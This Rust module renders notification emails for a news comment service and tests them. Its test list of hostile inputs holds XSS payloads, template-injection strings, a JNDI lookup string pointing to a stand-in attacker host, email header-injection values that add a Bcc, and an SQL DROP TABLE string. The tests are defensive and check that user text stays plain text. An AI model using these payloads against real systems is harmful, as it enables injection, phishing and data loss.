//! From what is owed to what is read: a notice becomes a subject, a plain text and an HTML document.

use std::collections::BTreeMap;

use minijinja::Value;
use minijinja::value::Serde;

use super::context;
use super::templates::{self, Template, TemplateError};
use super::wording::{shortened, wrapped};
use super::{blocks, wording};
use crate::mail::{Content, one_line};
use crate::model::account::LinkPurpose;
use crate::model::brand::Brand;
use crate::model::decision::Action;
use crate::model::ids::{CommentId, LinkId, SanctionId};
use crate::model::locale::Locale;
use crate::model::notice::Notice;
use crate::model::preferences::ZoneName;
use crate::texts;

/// A rendered mail.
pub type Letter = Content;

/// Of the line that mail programs show beside the subject, in user-perceived characters.
const PREHEADER: usize = 140;
/// Of a site that has chosen none.
const COLOUR: &str = "#1f5fbf";

/// What a link lets the mail's recipient do.
#[derive(Debug, Clone, Copy)]
pub enum Token<'a> {
    Link(LinkPurpose, LinkId),
    /// A moderator decides on a comment at that revision.
    Decision(Action, CommentId, i32),
    /// Its author sees what became of a comment, and appeals.
    OwnComment(CommentId),
    Warning(SanctionId),
    /// A moderator sees what waits on the site of that slug.
    Waiting(&'a str),
}

/// What links in mails are made of.
pub struct Links<'a> {
    /// Where readers reach the service, without a slash at the end.
    pub public_url: &'a str,
    /// The text of a token; called only while rendering the mail that carries it.
    pub token: &'a dyn Fn(Token<'_>) -> String,
}

impl Links<'_> {
    pub(super) fn to(&self, token: Token<'_>) -> String {
        let page = match token {
            Token::Link(LinkPurpose::VerifyEmail, _) => "account/verify",
            Token::Link(LinkPurpose::ChangeEmail, _) => "account/address",
            Token::Link(LinkPurpose::ResetPassword, _) => "account/reset",
            Token::Link(LinkPurpose::ConfirmFollow, _) => "u/confirm",
            Token::Decision(..) => "desk/decide",
            Token::OwnComment(_) => "u/comment",
            Token::Warning(_) => "u/warning",
            Token::Waiting(_) => "desk/waiting",
        };
        format!("{}/{page}?token={}", self.public_url, (self.token)(token))
    }
}

/// Whose mail it is and how it is to look.
pub struct Frame<'a> {
    pub links: Links<'a>,
    pub locale: Locale,
    pub zone: &'a ZoneName,
    /// Of the site that it is about; the default one for mails about an account.
    pub brand: &'a Brand,
    /// What the site, or the service, is called.
    pub brand_name: &'a str,
    /// The page on which its recipient chooses which mails to get; `None`: there is none for an address alone.
    pub choices_url: Option<&'a str>,
    /// Whether mails of this kind can be turned off there.
    pub can_be_turned_off: bool,
    /// The site's own template of this mail.
    pub template: Option<&'a Template>,
}

/// Errors: a template cannot be written, which none of those built in causes.
pub fn render(notice: &Notice, frame: &Frame<'_>) -> Result<Letter, TemplateError> {
    if let Notice::Test { of, .. } = notice {
        let letter = render(of, frame)?;
        let args = texts::Args::from_iter([("subject", letter.subject.clone())]);
        let subject = texts::text(frame.locale, "test-subject", &args).unwrap_or_default();
        return Ok(Letter { subject, ..letter });
    }
    let built_in = templates::built_in(notice.kind());
    let template = frame.template.or(built_in.as_ref());
    let template = template.ok_or_else(|| TemplateError(format!("there is no mail {}", notice.kind())))?;
    let mut variables = context::of(notice, frame);
    let addresses = context::addresses(&variables);
    let colour = frame.brand.colour.as_ref();
    let on_colour =
        if colour.is_none_or(crate::model::brand::Colour::wants_white_text) { "#ffffff" } else { "#000000" };
    let brand_name = if frame.brand_name.is_empty() {
        wording::host(frame.links.public_url)
    } else {
        wording::shown(frame.brand_name, wording::NAME)
    };
    let footer: Vec<&str> = frame.brand.footer.iter().flat_map(|footer| footer.lines()).collect();
    for (name, value) in [
        (blocks::LOCALE, serde_json::json!(frame.locale.as_str())),
        (blocks::COLOUR, serde_json::json!(colour.map_or(COLOUR, |colour| colour.as_str()))),
        (blocks::ON_COLOUR, serde_json::json!(on_colour)),
        (blocks::ADDRESSES, serde_json::json!(addresses)),
        ("brand_name", serde_json::json!(brand_name)),
        ("greeting", serde_json::json!(context::greeting(notice.name(), frame))),
        ("settings_url", serde_json::json!(frame.choices_url.filter(|_| frame.can_be_turned_off))),
        ("footer", serde_json::json!(footer)),
    ] {
        variables.insert(name.to_owned(), value);
    }
    let variables: BTreeMap<String, Value> =
        variables.into_iter().map(|(name, value)| (name, Value::from(Serde(value)))).collect();
    let with = |more: &[(&str, Value)]| {
        let more = more.iter().map(|(name, value)| ((*name).to_owned(), value.clone()));
        Value::from(variables.clone().into_iter().chain(more).collect::<BTreeMap<String, Value>>())
    };

    let subject = one_line(&templates::subject(template, &with(&[(blocks::HTML, false.into())]))?);
    let body = templates::body(template, &with(&[(blocks::HTML, false.into())]), false)?;
    let text = templates::layout(&with(&[(blocks::HTML, false.into()), ("body", body.as_str().into())]), false)?;
    let html_body = templates::body(template, &with(&[(blocks::HTML, true.into())]), true)?;
    let excerpt = notice.about().map(|about| about.excerpt.as_str()).filter(|excerpt| !excerpt.is_empty());
    let first = body.trim().split("\n\n").next().unwrap_or_default();
    let preheader = wording::defused(&shortened(excerpt.unwrap_or(first), PREHEADER));
    let html = templates::layout(
        &with(&[
            (blocks::HTML, true.into()),
            ("subject", subject.as_str().into()),
            ("preheader", preheader.into()),
            ("body", Value::from_safe_string(html_body)),
        ]),
        true,
    )?;
    Ok(Content { subject, text: wrapped(&text), html })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::notifications::samples::{self, Words};

    const PUBLIC_URL: &str = "https://comments.news.example";

    fn framed(
        locale: Locale,
        brand: &Brand,
        template: Option<&Template>,
        notice: &Notice,
    ) -> Result<Letter, TemplateError> {
        let token = |token: Token<'_>| format!("{token:?}").chars().filter(char::is_ascii_alphanumeric).collect();
        let choices = format!("{PUBLIC_URL}/u/choices");
        let frame = Frame {
            links: Links { public_url: PUBLIC_URL, token: &token },
            locale,
            zone: &ZoneName::default(),
            brand,
            brand_name: "The Harbour News",
            choices_url: Some(&choices),
            can_be_turned_off: notice.topic().is_some(),
            template,
        };
        render(notice, &frame)
    }

    fn letter(locale: Locale, notice: &Notice) -> Letter {
        framed(locale, &Brand::default(), None, notice).unwrap_or_else(|error| panic!("{}: {error}", notice.kind()))
    }

    /// Texts that have broken mails, and some that have not.
    const NAUGHTY: &[&str] = &[
        "",
        " ",
        "<b>\"&'",
        "<script>alert(1)</script>",
        "</title></head><body onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "{{ 7 * 7 }}",
        "{% for x in range(9) %}x{% endfor %}",
        "{$name}",
        "{ $name }",
        "${jndi:ldap://evil.example/a}",
        "#{7*7}",
        "Ida\r\nBcc: all@evil.example\r\n\r\nbody",
        "Ida\nSubject: forged",
        "line\u{2028}separator\u{2029}paragraph",
        "\u{0}\u{1}\u{8}\u{1b}[31m\u{7f}",
        "\u{202e}elpmaxe.live\u{202c}",
        "\u{200b}\u{200d}\u{feff}",
        "evil.example",
        "www.evil.example/path?x=1&y=2#z",
        "https://evil.example",
        "http:evil.example",
        "//evil.example",
        "\\\\evil.example\\share",
        "mailto:a@evil.example",
        "tel:+491234567",
        "a@evil.example",
        "evil\u{3002}example",
        "x.evil.example,y.evil.example;z.evil.example",
        "[click](https://evil.example)",
        "<https://evil.example>",
        "<a href=\"https://evil.example\">click</a>",
        "--",
        "-- \nsignature",
        "> quoted",
        "From the beginning",
        ".",
        "..",
        "=?utf-8?q?=3Cscript=3E?=",
        "=3D=0D=0A",
        "%0d%0aBcc:%20x",
        "😀👩‍👩‍👧‍👦🏳️‍🌈",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
        "ﷺﷺﷺﷺﷺﷺﷺﷺﷺ",
        "المتفجرة",
        "田中さんにあげて下さい",
        "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ",
        "1;DROP TABLE comments",
        "null",
        "undefined",
        "NaN",
        "-1E+02",
        "&lt;script&gt;",
        "&#60;b&#62;",
        "]]>",
        "<!--",
        "-->",
        "<?php echo 1; ?>",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ];

    const TAGS: &[&str] = &[
        "!doctype",
        "html",
        "head",
        "meta",
        "title",
        "body",
        "div",
        "p",
        "a",
        "blockquote",
        "br",
        "h2",
        "ul",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "td",
        "th",
    ];

    fn check(letter: &Letter, what: &str) {
        assert!(!letter.subject.trim().is_empty(), "{what}: no subject");
        let one_line = letter.subject.chars().all(|c| !c.is_control() && !matches!(c, '\u{2028}' | '\u{2029}'));
        assert!(one_line, "{what}: {:?}", letter.subject);
        for part in letter.html.split('<').skip(1) {
            let name: String =
                part.trim_start_matches('/').chars().take_while(|c| !c.is_whitespace() && *c != '>').collect();
            assert!(TAGS.contains(&name.to_lowercase().as_str()), "{what}: <{name}> in {}", letter.html);
        }
        for link in letter.html.split("href=\"").skip(1) {
            let ours = link.starts_with(PUBLIC_URL) || link.starts_with("https://news.example/");
            assert!(ours, "{what}: a link to {link:.60}");
        }
        for word in letter.text.split_whitespace() {
            let ours = word.starts_with(PUBLIC_URL) || word.starts_with("https://news.example/");
            assert!(!word.contains("://") || ours, "{what}: {word}");
            assert!(!word.contains("evil.example") && !word.contains("@evil"), "{what}: {word}");
        }
        assert!(!letter.html.contains("evil.example") && !letter.html.contains("49<"), "{what}: {}", letter.html);
        assert!(letter.text.chars().all(|c| c == '\n' || !c.is_control()), "{what}: control characters");
    }

    #[test]
    fn every_mail_is_written_in_every_language() {
        for &locale in Locale::ALL {
            for (name, notice) in samples::all(&Words::default()) {
                let letter = letter(locale, &notice);
                let what = format!("{name} in {}", locale.as_str());
                check(&letter, &what);
                assert!(letter.html.contains(&format!("<html lang=\"{}\"", locale.as_str())), "{what}");
                assert!(letter.text.contains("Ida Lindqvist") && letter.html.contains("Ida Lindqvist"), "{what}");
                let has_choices = letter.text.contains("/u/choices") && letter.html.contains("/u/choices");
                let expected = notice.topic().is_some() || notice.kind() == "welcome";
                assert_eq!(has_choices, expected, "{what}: {}", letter.text);
                let holes = letter.text.lines().any(|line| line.contains("{ $") || line.trim() == "none");
                assert!(!holes, "{what}: {}", letter.text);
            }
        }
    }

    #[test]
    fn nothing_that_anybody_writes_is_more_than_text() {
        for text in NAUGHTY {
            for (name, notice) in samples::all(&Words::only(text)) {
                check(&letter(Locale::English, &notice), &format!("{name} of {text:?}"));
            }
        }
    }

    #[test]
    fn a_brand_is_at_the_top_and_at_the_end() {
        let brand: Brand = serde_json::from_value(serde_json::json!({
            "colour": "#ffd200", "footer": "The Harbour News Ltd.\n1 <Quay> Street",
        }))
        .expect("a brand");
        let (_, notice) =
            samples::all(&Words::default()).into_iter().find(|(name, _)| name == "reply").expect("a reply");
        let letter = framed(Locale::English, &brand, None, &notice).expect("a letter");
        assert!(letter.html.contains("background: #ffd200; color: #000000"), "text that can be read: {}", letter.html);
        assert!(letter.html.contains("1 &lt;Quay&gt; Street") && letter.text.contains("1 <Quay> Street"));
        assert!(letter.html.contains("The Harbour News</p>"));
    }

    #[test]
    fn a_sites_own_template_says_what_it_likes_and_no_more() {
        let (_, notice) =
            samples::all(&Words::only("<i>x</i>")).into_iter().find(|(name, _)| name == "reply").expect("one");
        let own = |subject: &str, body: &str| Template { subject: subject.to_owned(), body: body.to_owned() };
        let write = |template: &Template| framed(Locale::English, &Brand::default(), Some(template), &notice);
        let letter =
            write(&own("News for {{ replier }}", "{{ p('Hey! ' ~ excerpt) }}{{ button(link, 'Go') }}{{ excerpt }}"));
        let letter = letter.expect("a letter");
        assert_eq!(letter.subject, "News for <i>x</i>");
        assert!(letter.text.contains("Hey! <i>x</i>"));
        assert!(letter.html.contains("Hey! &lt;i&gt;x") && !letter.html.contains("<i>"), "{}", letter.html);
        for (body, says) in [
            ("{{ nothing }}", "undefined"),
            ("{{ excerpt|safe }}", "unknown filter"),
            ("{{ t('no-such-message') }}", "no message"),
            ("{{ button(excerpt, 'Go') }}", "own addresses"),
            ("{{ button('https://evil.example/', 'Go') }}", "own addresses"),
            ("{{ heading('Go', link ~ '.evil.example') }}", "own addresses"),
            ("{{ anchor('javascript:alert(1)') }}", "own addresses"),
            ("{{ choices([[link, 'Go'], ['//evil.example', 'Go']]) }}", "own addresses"),
            ("{% for x in range(9000) %}{% for y in range(9000) %}{% endfor %}{% endfor %}", "fuel"),
            ("{% include 'layout.html' %}", "syntax"),
            ("{% if %}", "syntax"),
        ] {
            let error = write(&own("x", body)).expect_err(body).to_string();
            assert!(error.contains(says), "{body}: {error}");
        }
    }
}
